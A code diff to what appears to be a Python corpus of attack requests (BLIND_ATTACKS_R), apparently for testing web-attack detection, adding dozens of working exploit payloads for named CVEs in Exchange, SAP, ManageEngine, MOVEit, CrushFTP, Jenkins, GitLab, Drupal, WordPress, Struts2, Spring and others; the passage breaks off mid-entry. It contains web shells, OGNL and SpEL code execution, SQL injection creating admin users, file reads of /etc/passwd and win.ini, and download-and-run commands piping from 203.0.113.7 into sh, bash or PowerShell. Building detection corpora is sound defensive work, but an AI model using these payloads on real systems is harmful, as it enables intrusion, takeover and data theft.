@@ -57,6 +57,32 @@ _AJP = _ajp_forward(
      ("REMOTEUSER", "admin"), ("Content-Type", "application/x-www-form-urlencoded")])
 
 
+def _cli_frame(op, payload=b""):
+    return len(payload).to_bytes(4, "big") + bytes([op]) + payload
+
+
+def _cli_str(text):
+    b = text.encode("utf-8")
+    return len(b).to_bytes(2, "big") + b
+
+
+# Jenkins PlainCLIProtocol upload side: ARG(0) x2, ENCODING(2), LOCALE(1), START(3)
+_JENKINS_CLI = (_cli_frame(0, _cli_str("connect-node")) + _cli_frame(0, _cli_str("@/etc/passwd"))
+                + _cli_frame(2, _cli_str("UTF-8")) + _cli_frame(1, _cli_str("en_US"))
+                + _cli_frame(3)).decode("utf-8", "surrogateescape")
+
+
+def _djvu(cmd):
+    """Minimal DjVu with an ANTa annotation abusing ExifTool eval (CVE-2021-22205)."""
+    ant = ('(metadata\n\t(Copyright "\\\n" . qx{' + cmd + '} . \\\n" b ") )\n').encode()
+    info = b"\x00\x01\x00\x01\x18\x00\x2c\x01\x16\x01"
+    body = b"DJVU" + b"INFO" + len(info).to_bytes(4, "big") + info
+    body += b"ANTa" + len(ant).to_bytes(4, "big") + ant
+    if len(ant) % 2:
+        body += b"\x00"
+    return (b"AT&TFORM" + len(body).to_bytes(4, "big") + body).decode("utf-8", "surrogateescape")
+
+
 _MPCT = "Content-Type: multipart/form-data; boundary=----WebKitFormBoundaryx8Kq2ZrT0cVb1nLm"
 _UA = "User-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36"
 _FORM = "Content-Type: application/x-www-form-urlencoded"
@@ -367,8 +393,8 @@ BLIND_ATTACKS_R = [
           '{"identity":{"__type":"Identity:ECP","DisplayName":"OAB (Default Web Site)","RawIdentity":'
           '"3a1c8f0e-5d2b-4c7a-9e6f-1b2c3d4e5f60"},"properties":{"Parameters":{"__type":'
           '"JsonDictionaryOfanyType:#Microsoft.Exchange.Management.ControlPanel","ExternalUrl":'
-          '"http://f/<script language=\"JScript\" runat=\"server\">function Page_Load()'
-          '{eval(Request[\"exec_code\"],\"unsafe\");}</script>"}}}')),
+          '"http://f/<script language=\\"JScript\\" runat=\\"server\\">function Page_Load()'
+          '{eval(Request[\\"exec_code\\"],\\"unsafe\\");}</script>"}}}')),
     ("ssrf", "CVE-2021-34473 Exchange ProxyShell autodiscover Email path confusion", "path",
      "", "/autodiscover/autodiscover.json?@evil.corp/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@evil.corp"),
     ("ssrf", "CVE-2021-34473 Exchange ProxyShell backend PowerShell endpoint", "path",
@@ -450,13 +476,13 @@ BLIND_ATTACKS_R = [
           "%2Fservers%2FAdminServer%2Ftmp%2F_WL_internal%2Fcom.oracle.webservices.wls.ws-testclient-app-wls%2F4mcj4y"
           "%2Fwar%2Fcss&BasicConfigOptions.proxyHost=&BasicConfigOptions.proxyPort=80")),
     # --- SAP ---
-    ("php", "CVE-2025-31324 SAP NetWeaver metadatauploader JSP upload", "raw", "",
+    ("java", "CVE-2025-31324 SAP NetWeaver metadatauploader JSP upload", "raw", "",
      _raw("POST", "/developmentserver/metadatauploader?CONTENT_TYPE=IMPL&FILENAME=helper.jsp", [_UA, _MPCT],
           _mp([("file", "../../../../../../usr/sap/SID/J00/j2ee/cluster/apps/sap.com/irj/servlet_jsp/irj/root/helper.jsp",
                 "application/octet-stream",
                 '<%@ page import="java.util.*,java.io.*"%><% Process p=Runtime.getRuntime().exec('
                 'request.getParameter("cmd")); %>')]))),
-    ("xxe", "CVE-2020-6287 SAP RECON CTCWebService executeSynchronious user create", "raw", "",
+    ("generic", "CVE-2020-6287 SAP RECON CTCWebService executeSynchronious user create", "raw", "",
      _raw("POST", "/CTCWebService/CTCWebServiceBean", [_UA, "Content-Type: text/xml;charset=UTF-8"],
           '<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/" '
           'xmlns:urn="urn:CTCWebServiceSi"><soapenv:Header/><soapenv:Body><urn:executeSynchronious><identifier>'
@@ -501,4 +527,249 @@ BLIND_ATTACKS_R = [
           '{"address":{"totalsReader":{"collectorList":{"totalCollector":{"sourceData":{"data":'
           '"<?xml version=\\"1.0\\" ?><!DOCTYPE r [<!ELEMENT r ANY ><!ENTITY % sp SYSTEM '
           '\\"http://203.0.113.7/dtd.xml\\"> %sp; %param1; ]><r>&exfil;</r>","options":16}}}}}}')),
+    # --- ManageEngine ---
+    ("generic", "CVE-2021-40539 ADSelfService /./RestAPI LogonCustomization upload", "raw", "",
+     _raw("POST", "/./RestAPI/LogonCustomization", [_UA, _MPCT],
+          _mp([("methodToCall", None, None, "unspecified"), ("Save", None, None, "yes"),
+               ("form", None, None, "smartcard"), ("operation", None, None, "Add"),
+               ("CERTIFICATE_PATH", "Si.class", "application/octet-stream",
+                "\udcca\udcfe\udcba\udcbe\x00\x00\x004\x00\x1f\n\x00\x07\x00\x12\x08\x00\x13java/lang/Runtime")]))),
+    ("rce", "CVE-2021-40539 ADSelfService keytool providerclass code load", "raw", "",
+     _raw("POST", "/./RestAPI/Connection", [_UA, _FORM],
+          "methodToCall=openSSLTool&action=generateCSR&KEY_LENGTH=1024+-providerclass+Si+-providerpath+%22..%5Cbin%22")),
+    ("java", "CVE-2022-47966 ManageEngine SAML XSLT Transform xalan Runtime exec", "raw", "",
+     _raw("POST", "/SamlResponseServlet", [_UA, _FORM],
+          "SAMLResponse=PHNhbWxwOlJlc3BvbnNlIHhtbG5zOnNhbWxwPSJ1cm46b2FzaXM6bmFtZXM6dGM6U0FNTDoyLjA6cHJvdG9jb2wiIElEPSJfZWRkYzFlNWYtOGM4Ny00ZTU1LTgzMDktYzZkNjlkNmMyYWRmIiBJblJlc3BvbnNlVG89Il80YjA1ZTQxNGM0ZjM3ZTQxNzg5YjZlZjFiZGFhYTlmZiIgSXNzdWVJbnN0YW50PSIyMDIzLTAxLTE2VDEzOjU2OjQ2LjUxNFoiIFZlcnNpb249IjIuMCI%2BPHNhbWxwOlN0YXR1cz48c2FtbHA6U3RhdHVzQ29kZSBWYWx1ZT0idXJuOm9hc2lzOm5hbWVzOnRjOlNBTUw6Mi4wOnN0YXR1czpTdWNjZXNzIi8%2BPC9zYW1scDpTdGF0dXM%2BPEFzc2VydGlvbiB4bWxucz0idXJuOm9hc2lzOm5hbWVzOnRjOlNBTUw6Mi4wOmFzc2VydGlvbiIgSUQ9Il9iNWEyZTlhYS04OTU1LTRhYzYtOTRmNS0zMzQwNDc4ODI2MDAiIElzc3VlSW5zdGFudD0iMjAyMy0wMS0xNlQxMzo1Njo0Ni40OThaIiBWZXJzaW9uPSIyLjAiPjxJc3N1ZXI%2BaHR0cHM6Ly9ldmlsLmV4YW1wbGUvPC9Jc3N1ZXI%2BPGRzOlNpZ25hdHVyZSB4bWxuczpkcz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC8wOS94bWxkc2lnIyI%2BPGRzOlNpZ25lZEluZm8%2BPGRzOkNhbm9uaWNhbGl6YXRpb25NZXRob2QgQWxnb3JpdGhtPSJodHRwOi8vd3d3LnczLm9yZy8yMDAxLzEwL3htbC1leGMtYzE0biMiLz48ZHM6U2lnbmF0dXJlTWV0aG9kIEFsZ29yaXRobT0iaHR0cDovL3d3dy53My5vcmcvMjAwMS8wNC94bWxkc2lnLW1vcmUjcnNhLXNoYTI1NiIvPjxkczpSZWZlcmVuY2UgVVJJPSIjX2I1YTJlOWFhLTg5NTUtNGFjNi05NGY1LTMzNDA0Nzg4MjYwMCI%2BPGRzOlRyYW5zZm9ybXM%2BPGRzOlRyYW5zZm9ybSBBbGdvcml0aG09Imh0dHA6Ly93d3cudzMub3JnLzIwMDAvMDkveG1sZHNpZyNlbnZlbG9wZWQtc2lnbmF0dXJlIi8%2BPGRzOlRyYW5zZm9ybSBBbGdvcml0aG09Imh0dHA6Ly93d3cudzMub3JnL1RSLzE5OTkvUkVDLXhzbHQtMTk5OTExMTYiPjx4c2w6c3R5bGVzaGVldCB2ZXJzaW9uPSIxLjAiIHhtbG5zOnhzbD0iaHR0cDovL3d3dy53My5vcmcvMTk5OS9YU0wvVHJhbnNmb3JtIiB4bWxuczpydD0iaHR0cDovL3htbC5hcGFjaGUub3JnL3hhbGFuL2phdmEvamF2YS5sYW5nLlJ1bnRpbWUiIHhtbG5zOm9iPSJodHRwOi8veG1sLmFwYWNoZS5vcmcveGFsYW4vamF2YS9qYXZhLmxhbmcuT2JqZWN0Ij48eHNsOnRlbXBsYXRlIG1hdGNoPSIvIj48eHNsOnZhcmlhYmxlIG5hbWU9InJ0b2JqZWN0IiBzZWxlY3Q9InJ0OmdldFJ1bnRpbWUoKSIvPjx4c2w6dmFyaWFibGUgbmFtZT0icHJvY2VzcyIgc2VsZWN0PSJydDpleGVjKCRydG9iamVjdCwnY21kIC9jIHBvd2Vyc2hlbGwgLW5vcCAtdyBoaWRkZW4gLWMgaXdyIGh0dHA6Ly8yMDMuMC4xMTMuNy9hLnBzMXxpZXgnKSIvPjx4c2w6dmFyaWFibGUgbmFtZT0icHJvY2Vzc1N0cmluZyIgc2VsZWN0PSJvYjp0b1N0cmluZygkcHJvY2VzcykiLz48eHNsOnZhbHVlLW9mIHNlbGVjdD0iJHByb2Nlc3NTdHJpbmciLz48L3hzbDp0ZW1wbGF0ZT48L3hzbDpzdHlsZXNoZWV0PjwvZHM6VHJhbnNmb3JtPjwvZHM6VHJhbnNmb3Jtcz48ZHM6RGlnZXN0TWV0aG9kIEFsZ29yaXRobT0iaHR0cDovL3d3dy53My5vcmcvMjAwMS8wNC94bWxlbmMjc2hhMjU2Ii8%2BPGRzOkRpZ2VzdFZhbHVlPkg3Z0t1TzZ0OU1iQ0padWpBOVM3V2xMRmdkcU11TmUwMTQ1S1J3S2wwMDA9PC9kczpEaWdlc3RWYWx1ZT48L2RzOlJlZmVyZW5jZT48L2RzOlNpZ25lZEluZm8%2BPGRzOlNpZ25hdHVyZVZhbHVlPlJiQldCNkFJUDhBTjF3VFpONllZQ0tkbkNsRm9oOEdxbVUyUlhveWpta3I2STBBUDM3MUlTN2p4U01TMnp4RkNkWjgwa0ludmdWdWFFdDN5UW1jcTMzPC9kczpTaWduYXR1cmVWYWx1ZT48L2RzOlNpZ25hdHVyZT48L0Fzc2VydGlvbj48L3NhbWxwOlJlc3BvbnNlPg%3D%3D&RelayState=")),
+    ("java", "CVE-2020-10189 Desktop Central mdmLogUploader serialized upload", "raw", "",
+     _raw("POST", "/mdm/client/v1/mdmLogUploader?udid=si\\..\\..\\..\\webapps\\DesktopCentral\\_chart"
+                  "&filename=logger.zip", [_UA, "Content-Type: application/octet-stream"],
+          "\udcac\udced\x00\x05sr\x00\x17java.util.PriorityQueue\udc94\udcda0\udcb4\udcfb?\udc82\udcb1\x03\x00\x02I"
+          "\x00\x04sizeL\x00\ncomparatort\x00\x16Ljava/util/Comparator;xp\x00\x00\x00\x02sr\x00+"
+          "org.apache.commons.beanutils.BeanComparator")),
+    ("java", "CVE-2020-10189 Desktop Central cewolf img deserialization trigger", "path",
+     "", "/cewolf/?img=/../_chart/logger.zip"),
+    ("generic", "CVE-2021-44077 ServiceDesk Plus ImportTechnicians msiexec upload", "raw", "",
+     _raw("POST", "/RestAPI/ImportTechnicians?step=1", [_UA, _MPCT],
+          _mp([("theFile", "msiexec.exe", "application/octet-stream",
+                "MZ\udc90\x00\x03\x00\x00\x00\x04\x00\x00\x00\udcff\udcff\x00\x00\udcb8\x00\x00\x00"
+                "This program cannot be run in DOS mode.")]))),
+    ("rce", "CVE-2021-44077 ServiceDesk Plus s247action agent install execute", "path",
+     "", "/RestAPI/s247action?execute=s247AgentInstallationProcess&apiKey=asdasd"),
+    # --- SolarWinds ---
+    ("generic", "CVE-2020-10148 SolarWinds Orion i18n.ashx web.config disclosure", "path",
+     "", "/web.config.i18n.ashx?l=en-US&v=43005"),
+    ("generic", "CVE-2020-10148 SolarWinds Orion SWNetPerfMon.db i18n bypass", "path",
+     "", "/SWNetPerfMon.db.i18n.ashx?l=en-US&v=43005"),
+    ("ptrav", "CVE-2024-28995 Serv-U InternalDir traversal win.ini", "path",
+     "", "/?InternalDir=/../../../../windows&InternalFile=win.ini"),
+    ("ptrav", "CVE-2024-28995 Serv-U InternalDir backslash traversal", "raw", "",
+     _raw("GET", "/?InternalDir=\\..\\..\\..\\..\\ProgramData\\RhinoSoft\\Serv-U\\&InternalFile=Serv-U-StartupLog.txt",
+          [_UA])),
+    ("generic", "CVE-2024-28987 SolarWinds WHD hardcoded integration credentials", "raw", "",
+     _raw("GET", "/helpdesk/WebObjects/Helpdesk.woa/ra/OrionTickets/",
+          [_UA, "Accept: application/json",
+           "Authorization: Basic " + _b64("helpdeskIntegrationUser:dev-C4F8025E7")])),
+    # --- Telerik / Progress ---
+    ("scanner", "CVE-2019-18935 Telerik RadAsyncUpload handler probe", "path",
+     "", "/Telerik.Web.UI.WebResource.axd?type=rau"),
+    ("java", "CVE-2019-18935 Telerik RadAsyncUpload rauPostData mixed-mode dll", "raw", "",
+     _raw("POST", "/Telerik.Web.UI.WebResource.axd?type=rau", [_UA, _MPCT],
+          _mp([("rauPostData", None, None,
+                "mQqtgzM9vBIHtHlGWVPsZW1t3uMRbnC4KVDNGfGkVHoYFOS0IDuSLEC1bcjrXnzN2ZuDpy4JAq0wyjWx"
+                "CbqlzNcbn8Q5p2oCQb3IpKtHpZ4X0IwwLM6JvQ==&"
+                + _b64("Telerik.Web.UI.AsyncUploadConfiguration, Telerik.Web.UI, Version=2017.2.711.40, "
+                       "Culture=neutral, PublicKeyToken=121fae78165ba3d4")),
+               ("file", "blob", "application/octet-stream",
+                "MZ\udc90\x00\x03\x00\x00\x00\x04\x00\x00\x00\udcff\udcffDllMain sleep.dll"),
+               ("fileName", None, None, "RAU_crypto.bypass"), ("contentType", None, None, "text/html"),
+               ("lastModifiedDate", None, None, "2019-01-02T03:04:05.067Z"), ("metadata", None, None,
+                '{"TotalChunks":1,"ChunkIndex":0,"TotalFileSize":1,"UploadID":"1570123456.dll"}')]))),
+    ("generic", "CVE-2017-9248 Telerik DialogHandler dp crypto brute force", "path",
+     "", "/Telerik.Web.UI.DialogHandler.aspx?DialogName=DocumentManager&renderMode=2&Skin=Default"
+         "&Title=Document%20Manager&dpptn=&isRtl=false&dp=JEM2ZTdlRjU4JUAmPUAkJGBkPzg2QCU8fDM%3D"),
+    ("generic", "CVE-2024-4358 Telerik Report Server Startup/Register admin", "raw", "",
+     _raw("POST", "/Startup/Register", [_UA, _FORM],
+          "Username=pwnadmin&Password=Pwn3d!2024&ConfirmPassword=Pwn3d!2024&Email=pwn%40example.com"
+          "&FirstName=pwn&LastName=admin")),
+    # --- Managed file transfer ---
+    ("sqli", "CVE-2023-34362 MOVEit moveitisapi session_setvars header smuggle", "raw", "",
+     _raw("POST", "/moveitisapi/moveitisapi.dll?action=m2",
+          [_UA, "X-siLock-Transaction: folder_add_by_path", "xx-silock-transaction: session_setvars",
+           "X-siLock-SessVar0: MyUsername: Guest", "X-siLock-SessVar1: MyPkgAccessCode: 123",
+           "X-siLock-SessVar2: MyPkgID: 0", "X-siLock-SessVar3: MyGuestEmailAddr: a@b.com",
+           "X-siLock-SessVar4: MyPkgValidationCode: 123",
+           "X-siLock-SessVar5: MyPkgSelfProvisionedRecips: x@x.com','x'),(1,'x@x.com','x'); "
+           "UPDATE users SET Permission=30 WHERE Username='sysadmin';--"], "")),
+    ("generic", "CVE-2024-0204 GoAnywhere MFT ..; InitialAccountSetup bypass", "path",
+     "", "/goanywhere/images/..;/wizard/InitialAccountSetup.xhtml"),
+    ("java", "CVE-2023-0669 GoAnywhere lic/accept encrypted serialized bundle", "raw", "",
+     _raw("POST", "/goanywhere/lic/accept", [_UA, _FORM],
+          "bundle=Kx5MSXfiYaSeyz0eHjP3Y3Lv0Y1oUSrTmEhfRZXD5X3aZgVMjN9T-nBUmSwe4D5u8XY_qgtjfJDkVIb5jQ$2")),
+    ("generic", "CVE-2025-31161 CrushFTP AWS4 Credential crushadmin auth bypass", "raw", "",
+     _raw("GET", "/WebInterface/function/?command=getUserList&serverGroup=MainUsers&c2f=1111",
+          [_UA, "Cookie: currentAuth=1111; CrushAuth=1743526545658_p38s3LvsGAfk4GvVu0vWtsEQEv1111",
+           "Authorization: AWS4-HMAC-SHA256 Credential=crushadmin/"])),
+    ("ssti", "CVE-2024-4040 CrushFTP INCLUDE tag server-side template file read", "raw", "",
+     _raw("POST", "/WebInterface/function/", [_UA, _FORM,
+          "Cookie: currentAuth=31If; CrushAuth=1713820264658_vITBGz6s7JgzTSJ0kuW8unCP4ZQ31If"],
+          "command=zip&c2f=31If&path=%3CINCLUDE%3E/etc/passwd%3C/INCLUDE%3E&names=/bbb")),
+    ("ptrav", "CVE-2024-50623 Cleo Harmony VLSync Retrieve traversal", "raw", "",
+     _raw("GET", "/Synchronization", [_UA,
+          "VLSync: Retrieve;l=Ab1234-RQ0258;n=VLTrader;v=5.7.0.0;a=1337;po=1337;s=True;b=False;pp=myEncryptionKey;"
+          "path=..\\..\\..\\..\\Windows\\win.ini;"])),
+    ("ptrav", "CVE-2024-55956 Cleo VLTrader VLSync ADD autorun file write", "raw", "",
+     _raw("POST", "/Synchronization", [_UA, "Content-Type: application/octet-stream",
+          "VLSync: ADD;l=Ab1234-RQ0258;n=VLTrader;v=5.7.0.0;a=1337;po=1337;s=True;b=False;pp=myEncryptionKey;"
+          "path=..\\..\\autorun\\healthchecktemplate.txt;"],
+          "SYSTEM cmd.exe /c powershell -NonInteractive -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA")),
+    # --- CI/CD and dev tools ---
+    ("generic", "CVE-2023-42793 TeamCity RPC2 token creation auth bypass", "raw", "",
+     _raw("POST", "/app/rest/users/id:1/tokens/RPC2", [_UA, "Accept: application/json"], "")),
+    ("generic", "CVE-2024-27198 TeamCity jsp ;.jsp alternate path bypass", "path",
+     "", "/hax?jsp=/app/rest/server;.jsp"),
+    ("generic", "CVE-2024-27198 TeamCity alternate path admin user creation", "raw", "",
+     _raw("POST", "/hax?jsp=/app/rest/users;.jsp", [_UA, _JSON],
+          '{"username":"pwned1337","password":"Pwned!1337","email":"pwned@example.com",'
+          '"roles":{"role":[{"roleId":"SYSTEM_ADMIN","scope":"g"}]}}')),
+    ("ptrav", "CVE-2024-23897 Jenkins CLI args4j @file expansion /etc/passwd", "raw", "",
+     _raw("POST", "/cli?remoting=false",
+          [_UA, "Session: 5f0c6d21-3b7a-4f2e-9a61-8c0d2e4b7a19", "Side: upload",
+           "Content-Type: application/octet-stream"], _JENKINS_CLI)),
+    ("java", "CVE-2019-1003000 Jenkins checkScript Groovy AST exec", "path",
+     "", '/securityRealm/user/admin/descriptorByName/org.jenkinsci.plugins.scriptsecurity.sandbox.groovy.'
+         'SecureGroovyScript/checkScript?sandbox=true&value=public class x {public x(){"curl http://203.0.113.7/j|sh".execute()}}'),
+    ("java", "CVE-2019-1003000 Jenkins checkScript Grab remote jar", "path",
+     "", "/descriptorByName/org.jenkinsci.plugins.scriptsecurity.sandbox.groovy.SecureGroovyScript/checkScript"
+         "?sandbox=true&value=@GrabConfig(disableChecksums=true)%0a@GrabResolver(name='x',root='http://203.0.113.7/')"
+         "%0a@Grab(group='pwn',module='rce',version='1')%0aimport Orange;"),
+    ("rce", "CVE-2021-22205 GitLab ExifTool DjVu annotation upload", "raw", "",
+     _raw("POST", "/uploads/user", [_UA, _MPCT, "X-CSRF-Token: cnVieW9uZ2V0bGFi"],
+          _mp([("file", "test.jpg", "image/jpeg", _djvu("curl -s http://203.0.113.7/g.sh|bash"))]))),
+    ("generic", "CVE-2023-7028 GitLab password reset to attacker email array", "raw", "",
+     _raw("POST", "/users/password", [_UA, _FORM],
+          "authenticity_token=7Dq2mYv0o9hM&user%5Bemail%5D%5B%5D=admin%40victim.example"
+          "&user%5Bemail%5D%5B%5D=attacker%40evil.example")),
+    # --- CMS ---
+    ("generic", "CVE-2023-23752 Joomla API config application public=true leak", "path",
+     "", "/api/index.php/v1/config/application?public=true"),
+    ("php", "CVE-2015-8562 Joomla User-Agent session object injection", "header:User-Agent", "",
+     '}__test|O:21:"JDatabaseDriverMysqli":3:{s:2:"fc";O:17:"JSimplepieFactory":0:{}s:21:"\\0\\0\\0disconnectHandlers";'
+     'a:1:{i:0;a:2:{i:0;O:9:"SimplePie":5:{s:8:"sanitize";O:20:"JDatabaseDriverMysql":0:{}s:8:"feed_url";'
+     's:37:"phpinfo();JFactory::getConfig();exit;";s:19:"cache_name_function";s:6:"assert";s:5:"cache";b:1;'
+     's:11:"cache_class";O:20:"JDatabaseDriverMysql":0:{}}i:1;s:4:"init";}}s:13:"\\0\\0\\0connection";b:1;}\udcf0\udcfd\udcfd\udcfd'),
+    ("php", "CVE-2018-7600 Drupalgeddon2 user/register #post_render exec", "raw", "",
+     _raw("POST", "/user/register?element_parents=account/mail/%23value&ajax_form=1&_wrapper_format=drupal_ajax",
+          [_UA, _FORM],
+          "form_id=user_register_form&_drupal_ajax=1&mail[#post_render][]=exec&mail[#type]=markup"
+          "&mail[#markup]=echo+PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg==|base64+-d+>+sites/default/files/x.php")),
+    ("sqli", "CVE-2014-3704 Drupalgeddon name array key SQL injection", "raw", "",
+     _raw("POST", "/?q=node&destination=node", [_UA, _FORM],
+          "name[0%20;insert%20into%20users%20(uid,name,pass,status)%20values%20(31337,'hax0r',"
+          "'$S$DkIkdKLIvRK0iVHm99X7B/M8QC17E1Tp/kMOd1Ie8V/PgWjtAZld',1);%20%23%20%20]=test3&name[0]=test"
+          "&pass=shit2&test2=test&form_build_id=&form_id=user_login_block&op=Log+in")),
+    ("php", "CVE-2019-6340 Drupal REST hal_json GuzzleHttp FnStream unserialize", "raw", "",
+     _raw("POST", "/node?_format=hal_json", [_UA, "Content-Type: application/hal+json"],
+          '{"link":[{"value":"link","options":"O:24:\\"GuzzleHttp\\\\Psr7\\\\FnStream\\":2:{s:33:\\"\\u0000'
+          'GuzzleHttp\\\\Psr7\\\\FnStream\\u0000methods\\";a:1:{s:5:\\"close\\";a:2:{i:0;O:23:\\"GuzzleHttp'
+          '\\\\HandlerStack\\":3:{s:32:\\"\\u0000GuzzleHttp\\\\HandlerStack\\u0000handler\\";s:2:\\"id\\";'
+          's:30:\\"\\u0000GuzzleHttp\\\\HandlerStack\\u0000stack\\";a:1:{i:0;a:1:{i:0;s:6:\\"system\\";}}'
+          's:31:\\"\\u0000GuzzleHttp\\\\HandlerStack\\u0000cached\\";b:0;}i:1;s:7:\\"resolve\\";}}'
+          's:9:\\"_fn_close\\";a:2:{i:0;r:4;i:1;s:7:\\"resolve\\";}}"}],"_links":{"type":'
+          '{"href":"http://target.example/rest/type/shortcut/default"}}}')),
+    ("php", "CVE-2020-25213 WordPress File Manager connector.minimal upload", "raw", "",
+     _raw("POST", "/wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php", [_UA, _MPCT],
+          _mp([("cmd", None, None, "upload"), ("target", None, None, "l1_Lw"),
+               ("upload[]", "x.php", "application/octet-stream", "<?php system($_REQUEST['cmd']); ?>")]))),
+    ("ptrav", "CVE-2020-11738 WordPress Duplicator duplicator_download traversal", "path",
+     "", "/wp-admin/admin-ajax.php?action=duplicator_download&file=../wp-config.php"),
+    ("rfi", "CVE-2019-9978 WordPress Social Warfare swp_url remote payload", "path",
+     "", "/wp-admin/admin-post.php?swp_debug=load_options&swp_url=http://203.0.113.7/payload.txt"),
+    ("php", "CVE-2023-41892 Craft CMS conditions/render FnStream config", "raw", "",
+     _raw("POST", "/index.php", [_UA, _FORM],
+          "action=conditions/render&test[userCondition]=craft\\elements\\conditions\\users\\UserCondition"
+          '&config={"name":"test[userCondition]","as xyz":{"class":"\\\\GuzzleHttp\\\\Psr7\\\\FnStream",'
+          '"__construct()":[{"close":null}],"_fn_close":"phpinfo"}}')),
+    ("rfi", "CVE-2024-56145 Craft CMS register_argc_argv templatesPath FTP", "path",
+     "", "/index.php?--templatesPath=ftp://anonymous:@203.0.113.7:2121/"),
+    ("php", "CVE-2025-32432 Craft CMS generate-transform __class gadget", "raw", "",
+     _raw("POST", "/index.php?p=admin/actions/assets/generate-transform", [_UA, _JSON,
+          "X-CSRF-Token: gNb0pNQTYLQXTNpmXhx2yzU8qNtCXw5r1zXzjKm4"],
+          '{"assetId":11,"handle":{"width":123,"height":123,"as session":{"class":"craft\\\\behaviors\\\\'
+          'FieldLayoutBehavior","__class":"GuzzleHttp\\\\Psr7\\\\FnStream","__construct()":[[]],'
+          '"_fn_close":"phpinfo"}}}')),
+    ("php", "CVE-2019-16759 vBulletin widget_php routestring code exec", "raw", "",
+     _raw("POST", "/index.php", [_UA, _FORM],
+          "routestring=ajax/render/widget_php&widgetConfig[code]=echo%20shell_exec('id');%20exit;")),
+    ("php", "CVE-2020-17496 vBulletin tabbedcontainer subWidgets bypass", "raw", "",
+     _raw("POST", "/ajax/render/widget_tabbedcontainer_tab_panel", [_UA, _FORM],
+          "subWidgets[0][template]=widget_php&subWidgets[0][config][code]=echo%20shell_exec(%27id%27)%3B%20exit%3B")),
+    # --- Java frameworks ---
+    ("java", "CVE-2017-5638 Struts2 Jakarta Content-Type OGNL", "header:Content-Type", "",
+     "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess?"
+     "(#_memberAccess=#dm):((#container=#context['com.opensymphony.xwork2.ActionContext.container'])."
+     "(#ognlUtil=#container.getInstance(@com.opensymphony.xwork2.ognl.OgnlUtil@class))."
+     "(#ognlUtil.getExcludedPackageNames().clear()).(#ognlUtil.getExcludedClasses().clear())."
+     "(#context.setMemberAccess(#dm)))).(#cmd='id').(#iswin=(@java.lang.System@getProperty('os.name')"
+     ".toLowerCase().contains('win'))).(#cmds=(#iswin?{'cmd.exe','/c',#cmd}:{'/bin/bash','-c',#cmd}))."
+     "(#p=new java.lang.ProcessBuilder(#cmds)).(#p.redirectErrorStream(true)).(#process=#p.start())."
+     "(#ros=(@org.apache.struts2.ServletActionContext@getResponse().getOutputStream()))."
+     "(@org.apache.commons.io.IOUtils@copy(#process.getInputStream(),#ros)).(#ros.flush())}"),
+    ("java", "CVE-2018-11776 Struts2 namespace OGNL in URL", "path",
+     "", "/struts2-showcase/${(#_memberAccess['allowStaticMethodAccess']=true).(#cmd='id').(#iswin=false)"
+         ".(#a=@java.lang.Runtime@getRuntime().exec(#cmd))}/actionChain1.action"),
+    ("java", "CVE-2017-9805 Struts2 REST XStream NativeString gadget", "raw", "",
+     _raw("POST", "/struts2-rest-showcase/orders/3", [_UA, "Content-Type: application/xml"],
+          '<map><entry><jdk.nashorn.internal.objects.NativeString><flags>0</flags><value class='
+          '"com.sun.xml.internal.bind.v2.runtime.unmarshaller.Base64Data"><dataHandler><dataSource class='
+          '"com.sun.xml.internal.ws.encoding.xml.XMLMessage$XmlDataSource"><is class="javax.crypto.CipherInputStream">'
+          '<cipher class="javax.crypto.NullCipher"><initialized>false</initialized><opmode>0</opmode>'
+          '<serviceIterator class="javax.imageio.spi.FilterIterator"><iter class="javax.imageio.spi.FilterIterator">'
+          '<iter class="java.util.Collections$EmptyIterator"/><next class="java.lang.ProcessBuilder"><command>'
+          '<string>touch</string><string>/tmp/struts9805</string></command><redirectErrorStream>false'
+          '</redirectErrorStream></next></iter><filter class="javax.imageio.ImageIO$ContainsFilter"><method>'
+          '<class>java.lang.ProcessBuilder</class><name>start</name><parameter-types/></method><name>foo</name>'
+          '</filter><next class="string">foo</next></serviceIterator><lock/></cipher><input class='
+          '"java.lang.ProcessBuilder$NullInputStream"/><ibuffer></ibuffer><done>false</done><ostart>0</ostart>'
+          '<ofinish>0</ofinish><closed>false</closed></is><consumed>false</consumed></dataSource><transferFlavors/>'
+          '</dataHandler><dataLen>0</dataLen></value></jdk.nashorn.internal.objects.NativeString>'
+          '<jdk.nashorn.internal.objects.NativeString reference="../jdk.nashorn.internal.objects.NativeString"/>'
+          '</entry></map>')),
+    ("java", "CVE-2022-22965 Spring4Shell classLoader AccessLogValve webshell", "raw", "",
+     _raw("POST", "/helloworld/greeting", [_UA, _FORM, "suffix: %>//", "c1: Runtime", "c2: <%", "DNT: 1"],
+          "class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di%20if(%22j%22"
+          ".equals(request.getParameter(%22pwd%22)))%7B%20java.io.InputStream%20in%20%3D%20%25%7Bc1%7Di.getRuntime()"
+          ".exec(request.getParameter(%22cmd%22)).getInputStream()%3B%20%7D%20%25%7Bsuffix%7Di"
+          "&class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp"
+          "&class.module.classLoader.resources.context.parent.pipeline.first.directory=webapps/ROOT"
+          "&class.module.classLoader.resources.context.parent.pipeline.first.prefix=tomcatwar"
+          "&class.module.classLoader.resources.context.parent.pipeline.first.fileDateFormat=")),
+    ("java", "CVE-2022-22963 Spring Cloud Function routing-expression SpEL", "raw", "",
+     _raw("POST", "/functionRouter", [_UA, "Content-Type: text/plain",
+          'spring.cloud.function.routing-expression: T(java.lang.Runtime).getRuntime().exec("touch /tmp/pwned")'],
+          "test")),
+    ("java", "CVE-2022-22947 Spring Cloud Gateway actuator route SpEL filter", "raw", "",
+     _raw("POST", "/actuator/gateway/routes/hacktest", [_UA, _JSON],
+          '{"id":"hacktest","filters":[{"name":"AddResponseHeader","args":{"name":"Result","value":'
+          '"#{new String(T(org.springframework.util.StreamUtils).copyToByteArray(T(java.lang.Runtime).getRuntime()'
